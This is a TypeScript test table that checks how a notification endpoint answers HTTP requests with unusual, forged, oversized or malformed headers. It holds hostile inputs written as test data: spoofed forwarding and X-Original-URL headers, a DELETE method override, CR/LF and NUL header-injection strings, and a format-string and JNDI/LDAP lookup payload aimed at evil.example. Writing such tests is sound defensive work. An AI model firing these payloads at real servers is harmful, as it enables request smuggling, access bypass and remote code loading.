import { cases, item, json, lines, post, type Row, type Table } from './case.ts';

/** Headers: types, encodings, forged origins, too many, too long, twice. */
export const headers: Table = (known) => {
  const change = known.notificationPath;
  const body = json(item(known));
  const withHeader = (name: string, value: string | undefined) =>
    post(known, change, body, { headers: { [name]: value } });
  const type = (value: string | undefined, answer: number): Row => [
    `the type ${value ?? 'missing'}`,
    withHeader('content-type', value),
    answer,
    answer === 202 ? 1 : 0,
  ];
  const many = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, n) => [`x-${n}`, 'y']));
  const raw = (...more: readonly string[]) =>
    lines(`POST /${change} HTTP/1.1`, `host: ${known.host}`, 'content-type: application/json', ...more);
  return cases([
    type('application/json', 202),
    type('application/json; charset=utf-8', 202),
    type('application/json;charset="UTF-8"', 202),
    type('APPLICATION/JSON', 202),
    type('application/json; charset=utf-16', 415),
    type('application/json; charset=', 415),
    type('application/json, text/plain', 415),
    type('application/jsonp', 415),
    type('application/x-www-form-urlencoded', 415),
    type('multipart/form-data; boundary=x', 415),
    type('text/plain', 415),
    type('text/html', 415),
    type('application/problem+json', 415),
    type('*/*', 415),
    type('', 415),
    type(undefined, 415),
    ...['gzip', 'br', 'deflate', 'zstd', 'identity', 'gzip, gzip'].map(
      (encoding): Row => [`the encoding ${encoding}`, withHeader('content-encoding', encoding), 415],
    ),
    ['another host', withHeader('host', 'evil.example'), 202, 1], // no fixed host is expected behind this tunnel
    ['no host', post(known, change, body, { headers: { host: undefined } }), 202, 1],
    ['an expectation we do not know', withHeader('expect', 'a miracle'), 417],
    ['100-continue', withHeader('expect', '100-continue'), [100, 202], 1],
    ['a forged X-Forwarded-For', withHeader('x-forwarded-for', '127.0.0.1'), 202, 1],
    ['a forged X-Forwarded-Host', withHeader('x-forwarded-host', 'evil.example'), 202, 1],
    ['a forged X-Original-URL', withHeader('x-original-url', '/admin'), 202, 1],
    ['another method in a header', withHeader('x-http-method-override', 'DELETE'), 202, 1],
    ['a cookie', withHeader('cookie', `session=${'a'.repeat(4000)}`), 202, 1],
    ['somebody’s bearer token', withHeader('authorization', 'Bearer abc'), 202, 1],
    ['an origin', withHeader('origin', 'https://evil.example'), 202, 1],
    ['97 more headers', post(known, change, body, { headers: many(97) }), 202, 1],
    ['98 more headers', post(known, change, body, { headers: many(98) }), 431],
    ['1,000 more headers', post(known, change, body, { headers: many(1000) }), 'cut'],
    ['a header of 17,000 letters', raw(`x: ${'a'.repeat(17_000)}`), 'cut'],
    ['a header name of 17,000 letters', raw(`${'a'.repeat(17_000)}: x`), 'cut'],
    ['a header without a colon', raw('nonsense'), 'cut'],
    ['a header without a name', raw(': x'), 'cut'],
    ['a space before the colon', raw('x-a : b'), 'cut'],
    ['a folded header', raw('x-a: b\r\n c'), 'cut'],
    ['a NUL in a header', raw('x-a: b\u0000c'), 'cut'],
    ['a lone line feed in a header', raw('x-a: b\nx-c: d'), 'cut'],
    ['a carriage return alone', raw('x-a: b\rc'), 'cut'],
    ['umlauts in a header', raw('x-a: \u00e4\u00f6\u00fc', 'content-length: 0'), 400],
    ['a format string', withHeader('user-agent', '%s%n%x %{jndi:ldap://evil.example}'), 202, 1],
    ['two types', raw('content-type: text/plain', `content-length: ${body.length}`) + body, 202, 1],
    ['two hosts', raw('host: evil.example', `content-length: ${body.length}`) + body, 202, 1],
  ]);
};
